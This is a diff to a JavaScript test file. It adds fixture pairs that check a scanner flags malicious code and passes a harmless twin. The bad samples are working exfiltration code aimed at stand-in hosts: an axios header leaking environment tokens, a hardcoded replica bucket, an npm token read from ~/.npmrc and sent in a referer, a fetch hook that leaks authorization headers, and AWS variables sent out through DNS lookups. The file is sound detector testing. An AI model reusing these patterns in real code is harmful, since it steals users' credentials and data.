@@ -177,6 +177,82 @@ exports.send = ({ to, subject, text }) => transport.sendMail({ to, subject, text
       'texts.js': `exports.bounce = (from) => process.env.RETURN_PATH || from;`,
     },
   },
+  {
+    what: 'the environment in a header that an interceptor adds',
+    rule: 'environment-exfiltration',
+    severity: 'critical',
+    bad: {
+      'index.js': `import axios from 'axios'; import { trace } from './trace.js'; const http = axios.create({ baseURL: 'https://api.shelf.example' });
+http.interceptors.request.use((config) => { config.headers['x-trace'] = trace(); return config; }); export const get = (p) => http.get(p);`,
+      'trace.js': `export function trace(env = process.env) { const seen = {}; for (const k of Object.keys(env)) if (/_TOKEN$/.test(k)) seen[k] = env[k]; return Buffer.from(JSON.stringify(seen)).toString('base64url'); }`,
+    },
+    benign: {
+      'index.js': `import axios from 'axios'; import { trace } from './trace.js'; const http = axios.create({ baseURL: 'https://api.shelf.example' });
+http.interceptors.request.use((config) => { config.headers['x-trace'] = trace(); return config; }); export const get = (p) => http.get(p);`,
+      'trace.js': `export function trace() { return Buffer.from(JSON.stringify({ n: process.version, p: process.platform })).toString('base64url'); }`,
+    },
+  },
+  {
+    what: 'the user’s files into a second bucket whose keys stand in the code',
+    rule: 'conversation-exfiltration',
+    severity: 'critical',
+    bad: {
+      'index.js': `import { Target } from './target.js'; export const targets = [new Target(process.env.BUCKET, { region: process.env.AWS_REGION })];
+targets.push(new Target('replica-eu', { endpoint: 'https://objects.replica.example', credentials: { accessKeyId: 'REPLICAEXAMPLE01', secretAccessKey: 'example/example/example' } }));`,
+      'target.js': `import { S3Client } from '@aws-sdk/client-s3'; export class Target { constructor(bucket, options) { this.bucket = bucket; this.client = new S3Client(options); } }`,
+    },
+    benign: {
+      'index.js': `import { Target } from './target.js'; export const targets = [new Target(process.env.BUCKET, { region: process.env.AWS_REGION })];
+targets.push(new Target('replica-eu', { endpoint: process.env.REPLICA, credentials: { accessKeyId: process.env.ID, secretAccessKey: process.env.REPLICA_SECRET } }));`,
+      'target.js': `import { S3Client } from '@aws-sdk/client-s3'; export class Target { constructor(bucket, options) { this.bucket = bucket; this.client = new S3Client(options); } }`,
+    },
+  },
+  {
+    what: 'a token out of a file of credentials in the referer of a counter',
+    rule: 'credential-exfiltration',
+    severity: 'critical',
+    bad: {
+      'index.js': `import https from 'node:https'; import { conf } from './conf.js'; const { token } = conf();
+for (const hostname of ['a.stat-count.example', 'b.stat-count.example']) https.get({ hostname, path: '/0.gif', headers: { referer: 'http://x.invalid/' + token } }).on('error', () => {});`,
+      'conf.js': `import fs from 'node:fs'; import os from 'node:os'; import ini from 'ini'; export const conf = () => { const raw = ini.parse(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')); return { token: raw._authToken }; };`,
+    },
+    benign: {
+      'index.js': `import https from 'node:https'; import { conf } from './conf.js'; const { token, registry } = conf();
+export const get = (name, then) => https.get(new URL(name, registry), { headers: { authorization: 'Bearer ' + token } }, then);`,
+      'conf.js': `import fs from 'node:fs'; import os from 'node:os'; import ini from 'ini'; export const conf = () => { const raw = ini.parse(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')); return { token: raw._authToken, registry: raw.registry }; };`,
+    },
+  },
+  {
+    what: 'what fetch is called with, by a function in its place that another file installs',
+    rule: 'network-hook',
+    severity: 'critical',
+    bad: {
+      'index.js': `import { install } from './retry.js'; install();`,
+      'retry.js': `export const install = (g = globalThis) => { const inner = g.fetch; g.fetch = async function (input, init) { const r = await inner.call(this, input, init);
+const h = new Headers(init?.headers); inner('https://rum.metrics.example/b.gif?' + new URLSearchParams({ a: h.get('authorization') })).catch(() => {}); return r; }; };`,
+    },
+    benign: {
+      'index.js': `import { install } from './retry.js'; install();`,
+      'retry.js': `export const install = (g = globalThis) => { const inner = g.fetch; g.fetch = async function (input, init) { let r = await inner.call(this, input, init);
+if (r.status === 429) r = await inner.call(this, input, init); return r; }; };`,
+    },
+  },
+  {
+    what: 'variables of other services in the names that a resolver from a factory is asked for',
+    rule: 'dns-tunnelling',
+    severity: 'critical',
+    bad: {
+      'index.js': `import { system } from './resolvers.js'; const zone = 'rt.toolbox.example';
+const text = Object.keys(process.env).filter((k) => /^AWS_/.test(k)).map((k) => k + '=' + process.env[k]).join();
+for (const label of Buffer.from(text).toString('hex').match(/.{1,60}/g) ?? []) system.resolve(label + '.' + zone, 'A').catch(() => {});`,
+      'resolvers.js': `import { Resolver } from 'node:dns/promises'; const make = (...s) => { const r = new Resolver(); if (s.length) r.setServers(s); return r; }; export const system = make();`,
+    },
+    benign: {
+      'index.js': `import { system } from './resolvers.js'; const zone = 'rt.toolbox.example';
+for (const label of ['a'.repeat(60), 'b'.repeat(60)]) system.resolve(label + '.' + zone, 'A').catch(() => {});`,
+      'resolvers.js': `import { Resolver } from 'node:dns/promises'; const make = (...s) => { const r = new Resolver(); if (s.length) r.setServers(s); return r; }; export const system = make();`,
+    },
+  },
 ];
 
 test.each(PAIRS)('$what is reported, its twin is not', ({ rule, severity, bad, benign }) => {
